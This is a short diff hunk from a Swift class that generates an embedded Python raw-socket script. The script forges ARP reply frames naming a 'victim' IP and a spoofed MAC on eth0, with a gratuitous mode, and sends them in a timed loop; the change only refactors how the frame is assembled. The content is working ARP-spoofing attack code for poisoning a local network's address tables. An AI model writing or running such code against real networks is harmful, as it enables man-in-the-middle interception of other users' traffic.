@@ -151,7 +151,8 @@ final class Neighbourhood {
       door.bind(("eth0", 0x0806))
       us, forged = raw("\(ours)"), raw("\(mac)")
       target = ip("\(victim)") if \(gratuitous ? "True" : "False") else ip("10.0.2.10")
-      frame = us + forged + bytes.fromhex("08060001080006040002") + forged + ip("\(victim)") + us + target
+      head = us + forged + bytes.fromhex("08060001080006040002")
+      frame = head + forged + ip("\(victim)") + us + target
       start = time.monotonic(); sent = 0
       while True:
           due = int((time.monotonic() - start) * \(rate))
